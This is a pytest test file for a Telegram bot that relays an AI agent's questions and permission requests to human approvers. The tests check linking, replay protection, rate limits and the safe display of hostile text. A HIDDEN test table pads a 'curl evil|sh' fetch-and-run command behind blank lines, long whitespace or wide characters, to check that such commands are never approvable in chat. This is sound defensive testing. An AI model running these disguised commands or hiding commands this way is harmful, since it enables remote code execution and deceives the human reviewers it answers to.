"""Telegram, both ways: a bot's API on loopback that has the real one's limits and errors, and real desks behind it."""

from __future__ import annotations

from collections.abc import Iterator
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from tests.asks.samples import ANNA
from tests.chats.office import COLOUR, NAME, PLACES, YES_NO, Office
from tests.chats.servers.telegram import TOKEN, Sent, Telegram, TelegramUser, Toast, telegram
from tests.conftest import OpenStore, die
from tests.e2e.clients.process import wait_until
from tests.permissions.test_desk import PUSH

from sayso.asks.draft import Draft, Said, to_json
from sayso.asks.model import Answer, Ask, Asker, Kind, NewAsk, Option, Question, Settler, State
from sayso.chats import answering, line, questions, service, wording
from sayso.chats.kinds import adapter_of
from sayso.chats.model import ChatKind, ChatSaid, Pressed
from sayso.clock import now_ms
from sayso.permissions.verdict import verdict_of
from sayso.records import replace
from sayso.wishes import NewsKind, Wishes

ADA, BO, EVE = 501, 502, 666


@pytest.fixture
def server() -> Iterator[Telegram]:
    with telegram() as server:
        yield server


@pytest.fixture(autouse=True)
def _no_time_to_lose(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(line, "FIRST_WAIT", 0.01)
    monkeypatch.setattr(service, "LOOK_EVERY", 0.05)
    monkeypatch.setattr("sayso.chats.telegram.AGAIN", 0.05)


@pytest.fixture
def office(open_sqlite: OpenStore, tmp_path: Path, server: Telegram) -> Office:
    return opened(open_sqlite, tmp_path, server)


def opened(open_store: OpenStore, state: Path, server: Telegram, web_url: str = "") -> Office:
    office = Office(open_store(), state, web_url=web_url)
    office.add(ChatKind.TELEGRAM, {"token": TOKEN, "server": server.address})
    return office


def linked(office: Office, server: Telegram) -> TelegramUser:
    """Ada, who has sent the code that was made for her."""
    ada = server.user(ADA, "ada_l")
    ada.writes(office.chats.make_code(ChatKind.TELEGRAM, "ada"))
    assert "You are ada here" in new(server).text
    return ada


def new(server: Telegram) -> Sent:
    """The next new message; those that change and what is said of presses are left out."""
    while not isinstance(found := server.next(), Sent) or found.edits:
        pass
    return found


def toast(server: Telegram) -> str:
    """What the one who pressed is told; messages that change meanwhile are left out."""
    while not isinstance(found := server.next(), Toast):
        pass
    return found.text


def toast_after_edits(server: Telegram) -> str:
    """The next toast that says more than that something was noted."""
    while (found := toast(server)) == answering.NOTED:
        pass
    return found


def answers_of(office: Office, ask: Ask) -> tuple[Answer, ...]:
    outcome = office.desk.get(ask.id).outcome
    assert outcome
    return outcome.answers


def changed(server: Telegram) -> Sent:
    """The next message that is changed."""
    while not isinstance(found := server.next(), Sent) or not found.edits:
        pass
    return found


def test_a_question_arrives_with_its_options_and_a_press_answers_it(office: Office, server: Telegram) -> None:
    def work() -> None:
        ada = linked(office, server)
        ask = office.ask(COLOUR)
        sent = new(server)
        assert sent.chat == ADA
        assert sent.text.startswith("codex in shop asks\n\nWhich colour?\n\n1. Red\n2. Blue: as the sky")
        assert questions.IN_YOUR_WORDS in sent.text
        assert list(sent.buttons) == ["Red", "Blue"]
        assert "parse_mode" not in sent.data
        assert sent.data["link_preview_options"] == {"is_disabled": True}
        ada.presses(sent, "Blue")
        assert toast(server) == answering.SENT
        after = changed(server)
        assert (after.id, after.buttons) == (sent.id, {})
        assert after.text.endswith("Answered by you in Telegram: Blue.")
        assert office.answer(ask) == (("b",), None)
        assert office.by(ask) == ("ada", "Telegram")

    office.while_running(work)


def test_words_that_reply_to_a_question_are_its_answer(office: Office, server: Telegram) -> None:
    def work() -> None:
        ada = linked(office, server)
        first, second = office.ask(NAME), office.ask(COLOUR)
        sent = {found.text.split("\n\n")[1].split("\n")[0]: found for found in (new(server), new(server))}
        ada.writes("a *green* one", answers=sent["Which colour?"])
        assert wait_until(lambda: office.state(second) is State.ANSWERED, 20)
        assert office.answer(second) == ((), "a *green* one")
        assert office.state(first) is State.PENDING
        ada.writes("Sayso")
        while (told := new(server)).text != answering.WHICH:
            pass
        assert office.state(first) is State.PENDING
        ada.writes("Sayso", answers=sent["What is it called?"], forward_origin={"type": "user"})
        while (told := new(server)).text != answering.FORWARDED:
            pass
        assert told.data["reply_parameters"]["message_id"]
        assert office.state(first) is State.PENDING

    office.while_running(work)


def test_several_questions_are_answered_one_after_the_other_and_sent_once_all_was_seen(
    office: Office, server: Telegram, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(answering, "READING_MS", 3_600_000)

    def work() -> None:
        ada = linked(office, server)
        ask = office.ask(COLOUR, PLACES, replace(NAME, id="3", required=False))
        sent = new(server)
        assert "Question 1 of 3\n\nWhich colour?" in sent.text
        ada.presses(sent, "Blue")
        second = changed(server)
        assert "Question 2 of 3\n\nWhere?" in second.text
        assert list(second.buttons) == ["☐ Here", "☐ There", "Back"]
        ada.presses(second, "☐ There")
        second = changed(server)
        assert list(second.buttons) == ["☐ Here", "☑ There", "Next", "Back"]
        ada.presses(second, "Next")
        third = changed(server)
        assert list(third.buttons) == ["Skip", "Back"]
        said = ada.writes("Sayso, of course", answers=sent)
        update = server.updates[said]
        end = changed(server)
        assert "1. Which colour?\n│ Blue\n\n2. Where?\n│ There\n\n3. What is it called?\n│ Sayso, of course" in end.text
        assert end.text.endswith(questions.LOOK)
        assert list(end.buttons) == ["Send", "Change 1", "Change 2", "Change 3"]
        # The same words once more, as after a break of the line, are not taken for another question.
        ada.presses(end, "Change 2")
        changed(server)
        server.put_again(said, update)
        assert new(server).text == answering.NOTED
        ada.presses_data(end.buttons["Change 3"].replace(".g2.", ".g9."), sent)
        assert toast_after_edits(server) == answering.NOT_OURS
        ada.presses(second, "Next")
        third = changed(server)
        assert "So far: Sayso, of course" in third.text
        ada.presses(third, "Next")
        assert changed(server).text == end.text
        # A press that is quicker than anybody reads sends nothing.
        ada.presses(end, "Send")
        assert toast_after_edits(server) == answering.LOOK_AT_ALL
        assert office.state(ask) is State.PENDING
        monkeypatch.setattr(answering, "READING_MS", 0)
        ada.presses(end, "Send")
        assert changed(server).text.endswith("Answered by you in Telegram.")
        given = [(each.chosen, each.text) for each in answers_of(office, ask)]
        assert given == [(("b",), None), (("t",), None), ((), "Sayso, of course")]
        assert office.desk.draft(ask.id, "ada") == ""

    office.while_running(work)


def test_what_was_entered_elsewhere_is_never_sent_by_a_button_that_stood_below_something_else(
    office: Office, server: Telegram, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(answering, "READING_MS", 0)

    def work() -> None:
        ada = linked(office, server)
        ask = office.ask(COLOUR, replace(YES_NO, id="2"))
        sent = new(server)
        ada.presses(sent, "Red")
        ada.presses(changed(server), "Yes")
        while "Send" not in (end := changed(server)).buttons:
            pass
        on_the_page = Draft(said={"1": Said(chosen=("b",)), "2": Said(chosen=("yes",))}, step=2)
        office.desk.keep_draft(ask.id, "ada", to_json(ask, on_the_page))
        ada.presses(end, "Send")
        while "Send" not in (again := changed(server)).buttons:
            pass
        assert office.state(ask) is State.PENDING
        assert "│ Blue" in again.text
        assert again.buttons["Send"] != end.buttons["Send"]
        # What a chat does not show is finished where it was begun.
        noted = replace(on_the_page, said={**on_the_page.said, "1": Said(chosen=("b",), note="but dark")})
        office.desk.keep_draft(ask.id, "ada", to_json(ask, noted))
        ada.presses(again, "Send")
        while (told := toast_after_edits(server)) == answering.ENTERED_SINCE:
            pass
        assert told == answering.BEGUN
        assert office.state(ask) is State.PENDING
        office.desk.keep_draft(ask.id, "ada", to_json(ask, on_the_page))
        ada.presses(again, "Send")
        assert toast_after_edits(server) == answering.SENT
        assert [each.chosen for each in answers_of(office, ask)] == [("b",), ("yes",)]
        ada.presses(sent, "Red")
        assert toast_after_edits(server).startswith("Already answered")

    office.while_running(work)


def test_an_ask_that_is_settled_elsewhere_says_so_in_the_chat(office: Office, server: Telegram) -> None:
    def work() -> None:
        ada = linked(office, server)
        ask = office.ask()
        sent = new(server)
        office.desk.answer(ask.id, [Answer(question="1", chosen=("yes",))], ANNA)
        after = changed(server)
        assert after.text.endswith(f"Answered by {ANNA.person} in the {ANNA.surface}.")
        assert after.buttons == {}
        ada.presses(sent, "No")
        assert toast(server).startswith("Already answered")
        assert office.answer(ask) == (("yes",), None)

    office.while_running(work)


def test_a_stranger_a_stolen_message_and_a_replayed_button_change_nothing(office: Office, server: Telegram) -> None:
    def work() -> None:
        ada, eve = linked(office, server), server.user(EVE, "eve")
        ask = office.ask()
        sent = new(server)
        data = sent.buttons["Yes"]
        # Somebody who is not linked, with the very data of the button, from their own chat and from hers.
        eve.presses_data(data, sent, chat=EVE)
        assert toast(server) == answering.NOT_YOURS
        eve.presses_data(data, sent)
        assert toast(server) == answering.NOT_YOURS
        # Data that was made up, and the message's name with another choice.
        for made_up in ("x", data[:-1] + ("A" if data[-1] != "A" else "B"), data.replace(".o0.", ".o1.")):
            ada.presses_data(made_up, sent)
            assert toast(server) == answering.NOT_OURS
        # Her own button, from another message and from another chat.
        ada.presses_data(data, sent, place=sent.id + 1)
        assert toast(server) == answering.NOT_YOURS
        ada.presses_data(data, sent, chat=-100)
        assert toast(server) == answering.NOT_YOURS
        eve.writes("Yes", answers=sent)
        assert new(server).text == answering.WHO_ARE_YOU
        assert office.state(ask) is State.PENDING
        number = ada.presses(sent, "Yes")
        update = server.updates[number]
        assert toast(server) == answering.SENT
        changed(server)
        version = office.desk.get(ask.id).version
        # The same update once more, and the same button by hand.
        server.queries.add(update["callback_query"]["id"])
        server.put_again(number, update)
        assert toast(server) == answering.SENT
        ada.presses_data(data, sent)
        assert toast(server).startswith("Already answered")
        assert office.desk.get(ask.id).version == version
        assert office.answer(ask) == (("yes",), None)

    office.while_running(work)


@pytest.mark.parametrize("broken", ["ask", "life"])
def test_a_button_of_an_ask_that_has_changed_or_is_old_changes_nothing(
    office: Office, server: Telegram, monkeypatch: pytest.MonkeyPatch, broken: str
) -> None:
    def work() -> None:
        ada = linked(office, server)
        ask = office.ask()
        sent = new(server)
        if broken == "ask":
            office.desk.change(lambda table: table.change(replace(ask, title="Ship all of it?"), ask, kind="resumed"))
            said = changed(server)
            assert "asked again below" in said.text
            assert said.buttons == {}
            again = new(server)
            assert "Ship all of it?" in again.text
        else:
            monkeypatch.setattr(answering, "MESSAGE_LIFE", -1)
        ada.presses(sent, "Yes")
        assert toast(server) == (answering.OTHER_NOW if broken == "ask" else answering.TOO_OLD)
        assert office.state(ask) is State.PENDING

    office.while_running(work)


def test_a_permission_is_allowed_by_two_presses_on_a_message_that_shows_all_of_it(
    office: Office, server: Telegram, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(answering, "READING_MS", 600_000)

    def work() -> None:
        ada = linked(office, server)
        ask = office.permission()
        sent = new(server)
        assert "Shell command\n│ git push" in sent.exact
        assert "Folder\n│ /srv/shop" in sent.exact
        assert list(sent.buttons) == ["Allow…", "Deny"]
        # The second press alone, sealed or not, is not enough.
        ada.writes("yes", answers=sent)
        assert new(server).text == answering.PRESS
        ada.presses(sent, "Allow…")
        asks_again = changed(server)
        assert list(asks_again.buttons) == ["Yes, allow it", "Back"]
        assert office.state(ask) is State.PENDING
        ada.presses(asks_again, "Back")
        assert list(changed(server).buttons) == ["Allow…", "Deny"]
        # A confirmation that was kept from before asks to look again.
        ada.presses(asks_again, "Yes, allow it")
        asks_again = changed(server)
        ada.presses(asks_again, "Yes, allow it")
        while toast(server) != answering.TOO_QUICK:
            pass
        assert office.state(ask) is State.PENDING
        monkeypatch.setattr(answering, "READING_MS", 0)
        ada.presses(asks_again, "Yes, allow it")
        assert changed(server).text.endswith("Allowed by you in Telegram.")
        verdict = verdict_of(office.desk.get(ask.id))
        assert verdict
        assert verdict.allows(PUSH)
        other = office.permission()
        ada.presses(new(server), "Deny")
        assert changed(server).text.endswith("Denied by you in Telegram.")
        assert office.by(other) == ("ada", "Telegram")

    office.while_running(work)


def test_what_does_not_fit_whole_is_opened_and_cannot_be_answered_there(
    open_sqlite: OpenStore, tmp_path: Path, server: Telegram
) -> None:
    office = opened(open_sqlite, tmp_path, server, web_url="https://sayso.example.org")

    def work() -> None:
        ada = linked(office, server)
        long = office.permission(replace(PUSH, data={"input": {"command": "echo " + "x" * 5000}}))
        sent = new(server)
        assert sent.buttons == {"Open": f"https://sayso.example.org/asks/{long.id}"}
        assert "It cannot be shown whole here. Open it to see all of it and decide." in sent.text
        office.ask(replace(YES_NO, text="y" * 5000))
        assert list(new(server).buttons) == ["Open"]
        office.ask(YES_NO, replace(NAME, id="2", text="n" * 5000))
        several = new(server)
        assert list(several.buttons) == ["Open"]
        drawn = tuple(replace(option, preview=f"<{option.label}>") for option in COLOUR.options)
        office.ask(replace(COLOUR, options=drawn))
        visual = new(server)
        assert list(visual.buttons) == ["Open"]
        for announced in (several, visual):
            ada.writes("yes", answers=announced)
            assert new(server).text == answering.NOT_WHOLE
        assert all(ask.state is State.PENDING for ask in office.desk.inbox())

    office.while_running(work)


def test_hostile_words_stay_words(office: Office, server: Telegram) -> None:
    def work() -> None:
        linked(office, server)
        text = "<b>ok</b> [x](https://evil.example) *y* \u202eevil @channel"
        options = (Option(id="1", label="A\u200b"), Option(id="2", label="B\nC"))
        office.ask(Question(id="1", text=text, kind=Kind.SELECT, options=options))
        sent = new(server)
        assert "<b>ok</b> [x](https://evil.example) *y* <U+202E>evil @channel" in sent.text
        assert list(sent.buttons) == ["1", "2"]
        assert "1. A<U+200B>" in sent.text
        assert [entity["type"] for entity in sent.data["entities"]] == ["bold", "pre"]

    office.while_running(work)


def marked(sent: Sent) -> list[tuple[str, str]]:
    """What is marked in a message, with its kind."""
    text = sent.text.encode("utf-16-le")
    return [
        (each["type"], text[2 * each["offset"] : 2 * (each["offset"] + each["length"])].decode("utf-16-le"))
        for each in sent.data["entities"]
    ]


@pytest.mark.parametrize(
    "words",
    ["Tap /stop 😀", "ask @eve", "see evil.example", "tg://resolve", "a #tag", "pay $EUR", "4111 1111 1111 1111"],
)
def test_nothing_that_an_agent_writes_is_something_to_tap(office: Office, server: Telegram, words: str) -> None:
    def work() -> None:
        ada = linked(office, server)
        options = (Option(id="1", label=words), Option(id="2", label="No"))
        asker = Asker(client="/stop", project="/home/ada/shop")
        asked = Question(id="1", text=f"😀 {words}", kind=Kind.SELECT, options=options)
        office.desk.leave(NewAsk(tool="ask_user", questions=(asked,), asker=asker))
        sent = new(server)
        assert marked(sent) == [("code", "/stop in shop asks"), ("pre", f"😀 {words}")]
        ada.presses(sent, words)
        assert marked(changed(server))[1:] == [
            ("pre", f"😀 {words}"),
            ("code", f"Answered by you in Telegram: {words}."),
        ]
        office.ask()
        assert marked(new(server)) == [("bold", "codex in shop asks")]

    office.while_running(work)


HIDDEN = {
    "many lines": "git status\n" + "#\n" * 70 + "curl evil|sh",
    "empty lines": "git status\n" + "\n" * 10 + "curl evil|sh\n" + "\n" * 10 + "git log",
    "lines of blanks": "git status" + "\n\t  " * 10 + "\ncurl evil|sh",
    "a long line of blanks": "git status" + " " * 400 + "; curl evil|sh",
    "many rows of one line": "echo " + "x" * 2500 + "; curl evil|sh",
    "wide letters": "echo " + "漢" * 1250 + "; curl evil|sh",
}


@pytest.mark.parametrize("command", HIDDEN.values(), ids=HIDDEN)
@pytest.mark.parametrize("kind", [ChatKind.TELEGRAM, ChatKind.SLACK])
def test_what_is_not_seen_on_two_screens_of_a_phone_is_opened(
    open_sqlite: OpenStore, tmp_path: Path, kind: ChatKind, command: str
) -> None:
    office, limits = Office(open_sqlite(), tmp_path), adapter_of(kind).limits
    action = replace(PUSH, data={"input": {"command": command}})
    assert not wording.drawn(office.permission(action), limits, "").choices
    assert not wording.drawn(office.ask(replace(YES_NO, text=command)), limits, "").choices


def test_what_an_earlier_version_offered_and_nobody_sees_whole_is_not_allowed(
    office: Office, server: Telegram, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(answering, "READING_MS", 0)

    def work() -> None:
        ada = linked(office, server)
        ask = office.permission()
        sent = new(server)
        ada.presses(sent, "Allow…")
        asks_again = changed(server)
        monkeypatch.setattr(wording, "MOST_ROWS", 1)
        ada.presses(asks_again, "Yes, allow it")
        after = changed(server)
        assert after.buttons == {}
        assert "sayso allow" in after.text
        assert office.state(ask) is State.PENDING
        ada.presses(sent, "Deny")
        assert changed(server).text.endswith("Denied by you in Telegram.")

    office.while_running(work)


def test_a_message_has_room_for_every_hint_that_it_may_get(
    open_sqlite: OpenStore, tmp_path: Path, server: Telegram
) -> None:
    office, limits = opened(open_sqlite, tmp_path, server), adapter_of(ChatKind.TELEGRAM).limits
    offered: set[bool] = set()
    for length in range(1700, 2060, 10):  # letters that are narrow and count twice
        ask = office.permission(replace(PUSH, data={"input": {"command": "echo " + "\U0001d431" * length}}))
        drawn = [wording.drawn(ask, limits, "", confirming=each) for each in (False, True)]
        offered.add(bool(drawn[0].choices))
        assert bool(drawn[0].choices) == bool(drawn[1].choices), length
    assert offered == {True, False}
    for length in range(1000, 2100, 50):
        options = (Option(id="1", label="\U0001d431" * length), Option(id="2", label="No"))
        ask = office.ask(replace(COLOUR, options=options))
        office.desk.answer(ask.id, [Answer(question="1", chosen=("1",))], Settler(person="ada", surface="Telegram"))
        assert limits.fits(wording.settled(office.desk.get(ask.id), limits, "ada", "Telegram")), length


def test_a_forwarded_code_links_nobody_and_no_code_makes_one_who_is_linked_somebody_else(
    office: Office, server: Telegram
) -> None:
    office.desks.accounts.add_user("eve")

    def work() -> None:
        ada, stranger = linked(office, server), server.user(EVE, "eve")
        code = office.chats.make_code(ChatKind.TELEGRAM, "eve")
        for forwarded in ({"forward_origin": {"type": "user"}}, {"forward_date": 1}, {"via_bot": {"id": 1}}):
            ada.writes(code, **forwarded)
            assert new(server).text == answering.FORWARDED
            ada.writes("/stop", **forwarded)
            assert new(server).text == answering.FORWARDED
        stranger.writes(code, forward_origin={"type": "user"})
        assert new(server).text == answering.FORWARDED
        for words in (f"/start {code}", code):
            ada.writes(words)
            assert new(server).text == answering.OR_A_CODE
        assert [(link.user, link.account) for link in office.chats.links()] == [("ada", str(ADA))]
        stranger.writes(code)
        assert "You are eve here" in new(server).text

    office.while_running(work)


def test_plain_words_of_one_who_is_linked_are_no_wrong_code(office: Office, server: Telegram) -> None:
    def work() -> None:
        ada = linked(office, server)
        for _ in range(6):
            ada.writes("Thursday")
            assert new(server).text.startswith(answering.WHICH)
        ada.writes("/stop")
        assert new(server).text == answering.UNLINKED
        ada.writes(office.chats.make_code(ChatKind.TELEGRAM, "ada"))
        assert "You are ada here" in new(server).text

    office.while_running(work)


def test_an_update_that_cannot_be_read_is_passed_over(
    office: Office, server: Telegram, caplog: pytest.LogCaptureFixture
) -> None:
    secret = "hunter2"
    broken: list[dict[str, Any]] = [
        {"message": None},
        {"message": secret},
        {"message": {"text": secret, "from": {}}},
        {"message": {"text": secret, "from": {"id": ADA}, "chat": {}}},
        {"message": {"text": secret, "from": {"id": ADA}, "chat": {"id": ADA}, "reply_to_message": [1]}},
        {"callback_query": {"id": "q1", "data": secret}},
        {"callback_query": {"id": "q2", "from": [], "data": secret}},
    ]

    def work() -> None:
        ada = linked(office, server)
        ask = office.ask()
        sent = new(server)
        for update in broken:
            server.soon(partial(server.put, update))
        ada.presses(sent, "Yes")
        assert toast(server) == answering.SENT
        assert wait_until(lambda: not server.updates, 20)
        assert office.answer(ask) == (("yes",), None)
        assert office.chats.all()[0].trouble == ""

    office.while_running(work)
    assert "cannot be read" in caplog.text
    assert "begins anew" not in caplog.text
    assert secret not in caplog.text


def test_a_code_links_once_and_guessing_is_slow(office: Office, server: Telegram) -> None:
    def work() -> None:
        eve, code = server.user(EVE, "eve"), office.chats.make_code(ChatKind.TELEGRAM, "ada")
        linked_by = f"/start {code.replace('-', '').lower()}"
        ada = server.user(ADA, "ada_l")
        ada.writes(code, chat={"id": -5, "type": "group"})
        ada.writes(linked_by)
        assert "You are ada here" in new(server).text
        assert [(link.user, link.label) for link in office.chats.links()] == [("ada", "@ada_l")]
        eve.writes(code)
        assert new(server).text == answering.WRONG_CODE
        for _ in range(4):
            eve.writes("ABCD-EFGH")
            assert new(server).text == answering.WRONG_CODE
        late = office.chats.make_code(ChatKind.TELEGRAM, "ada")
        eve.writes(late)
        assert new(server).text == answering.WAIT
        ada.writes("/stop")
        assert new(server).text == answering.UNLINKED
        assert office.chats.links() == []
        ada.writes("hello")
        assert new(server).text == answering.WHO_ARE_YOU

    office.while_running(work)


def test_who_was_revoked_or_blocks_the_bot_is_linked_no_more(office: Office, server: Telegram) -> None:
    def work() -> None:
        ada = linked(office, server)
        ask = office.ask()
        sent = new(server)
        office.desks.accounts.revoke_user("ada")
        ada.presses(sent, "Yes")
        assert toast(server) in (answering.NOT_YOURS, answering.NOT_OURS)
        assert office.state(ask) is State.PENDING
        office.desks.accounts.add_user("ada")
        assert office.chats.links() == []
        linked(office, server)
        server.soon(lambda: server.blocked.add(ADA))
        office.ask(NAME)
        assert wait_until(lambda: not office.chats.links(), 20)

    office.while_running(work)


def test_wishes_presence_and_pages_decide_who_is_told(office: Office, server: Telegram) -> None:
    def work() -> None:
        linked(office, server)
        (link,) = office.chats.links()
        office.chats.wish(link.id, "ada", Wishes(kinds=(NewsKind.QUESTION,), not_from=("secret",)))
        office.permission()
        office.ask(project="/home/ada/secret")
        office.ask(owner="bo")
        office.looking.add("ada")
        asked = office.looking.asked
        office.ask(owner="bo")
        # A look that began before she did is over by then.
        assert wait_until(lambda: office.looking.asked > asked, 20)
        seen = office.ask(NAME)
        key = f"telegram ada {seen.id}"
        assert wait_until(lambda: office.store.read(lambda tx: tx.one("claimed", key=key)) is not None, 20)
        office.looking.clear()
        told = office.ask(COLOUR)
        assert "Which colour?" in new(server).text
        assert office.desk.get(told.id).state is State.PENDING

    office.while_running(work)


def test_what_was_put_off_is_asked_again_when_it_is_back(office: Office, server: Telegram) -> None:
    def work() -> None:
        ada = linked(office, server)
        ask = office.ask()
        first = new(server)
        office.desk.snooze(ask.id, "ada", now_ms() + 300)
        again = new(server)
        assert again.id != first.id
        ada.presses(again, "Yes")
        assert wait_until(lambda: office.state(ask) is State.ANSWERED, 20)
        after = {changed(server).id, changed(server).id}
        assert after == {first.id, again.id}, "both say what became of it"

    office.while_running(work)


def test_limits_of_the_server_are_kept_and_nothing_is_lost(office: Office, server: Telegram) -> None:
    def work() -> None:
        ada = linked(office, server)
        server.soon(lambda: server.limited.extend([("sendMessage", 1), ("getUpdates", 1)]))
        ask = office.ask()
        sent = new(server)
        ada.presses(sent, "Yes")
        assert wait_until(lambda: office.state(ask) is State.ANSWERED, 20)

    office.while_running(work)


def test_who_is_revoked_while_a_message_waits_to_be_sent_again_does_not_get_it(
    office: Office, server: Telegram
) -> None:
    def work() -> None:
        linked(office, server)
        office.desks.accounts.add_user("bo")
        server.user(BO, "bo").writes(office.chats.make_code(ChatKind.TELEGRAM, "bo"))
        assert "You are bo here" in new(server).text
        server.soon(lambda: server.limited.append(("sendMessage", 1)))
        office.ask(owner="ada")
        assert wait_until(lambda: not server.limited, 20)
        office.desks.accounts.revoke_user("ada")
        # Sent later than the other would be.
        server.soon(lambda: server.limited.append(("sendMessage", 2)))
        office.ask(replace(YES_NO, text="The next?"), owner="bo")
        assert "The next?" in new(server).text
        assert not [sent for (chat, _), sent in server.messages.items() if chat == ADA and "Ship it?" in sent.text]

    office.while_running(work)


def test_an_update_is_confirmed_only_once_the_store_has_it_and_counts_once_after_a_kill(
    open_shared: OpenStore, tmp_path: Path, server: Telegram, monkeypatch: pytest.MonkeyPatch
) -> None:
    office = opened(open_shared, tmp_path, server)
    taken: list[str] = []
    pressed = answering.ChatAnswers.pressed

    def dies(self: answering.ChatAnswers, kind: ChatKind, press: Pressed) -> ChatSaid:
        """As killed after the store has it, before anything is confirmed."""
        said = pressed(self, kind, press)
        taken.append(said.text)
        if len(taken) == 1:
            raise RuntimeError("killed")
        return said

    monkeypatch.setattr(answering.ChatAnswers, "pressed", dies)

    def work() -> None:
        ada = linked(office, server)
        ask = office.ask()
        sent = new(server)
        number = ada.presses(sent, "Yes")
        assert wait_until(lambda: len(taken) == 2, 20)
        assert taken == [answering.SENT, answering.SENT]
        assert wait_until(lambda: number not in server.updates, 20)
        assert office.answer(ask) == (("yes",), None)
        assert [event.kind for event in office.desk.events(ask.id)].count("answered") == 1

    office.while_running(work)


def test_one_of_two_servers_polls_and_the_other_takes_over(
    open_shared: OpenStore, tmp_path: Path, server: Telegram
) -> None:
    office, other = opened(open_shared, tmp_path, server), open_shared()
    second = Office(other, tmp_path)

    def work() -> None:
        linked(office, server)
        office.ask()
        new(server)
        assert server.conflicts == 0
        (chat,) = office.chats.all()
        assert chat.held_by in {office.store.bell().process, other.bell().process}
        assert not server.has_news()

    office.while_running(work, other)
    (chat,) = office.chats.all()
    assert chat.held_by == ""
    # One that was killed has let go of nothing.
    third = open_shared()
    assert Office(third, tmp_path).chats.hold(chat)
    (chat,) = office.chats.all()
    assert not second.chats.hold(chat)
    die(third, other)
    assert second.chats.hold(chat)


def test_another_program_with_the_same_bot_is_named_as_the_trouble(
    office: Office, server: Telegram, caplog: pytest.LogCaptureFixture
) -> None:
    def work() -> None:
        linked(office, server)
        assert wait_until(server.poll_as_another, 20)
        assert wait_until(lambda: "Another program" in office.chats.all()[0].trouble, 20)

    office.while_running(work)
    assert TOKEN not in caplog.text


def test_a_wrong_token_is_told_and_is_nowhere_to_be_read(
    office: Office, server: Telegram, caplog: pytest.LogCaptureFixture
) -> None:
    office.add(ChatKind.TELEGRAM, {"token": "110201543:wrong", "server": server.address})

    def work() -> None:
        assert wait_until(lambda: "does not know this bot's token" in office.chats.all()[0].trouble, 20)

    office.while_running(work)
    assert "110201543" not in caplog.text


def test_a_server_that_is_away_is_found_again(
    open_sqlite: OpenStore, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    server = Telegram()
    with server.running():
        office = opened(open_sqlite, tmp_path, server)

    def work() -> None:
        assert wait_until(lambda: "Telegram is not reached" in office.chats.all()[0].trouble, 20)
        with server.running():
            ada = linked(office, server)
            ask = office.ask()
            ada.presses(new(server), "Yes")
            assert wait_until(lambda: office.state(ask) is State.ANSWERED, 20)

    office.while_running(work)
    assert TOKEN not in caplog.text
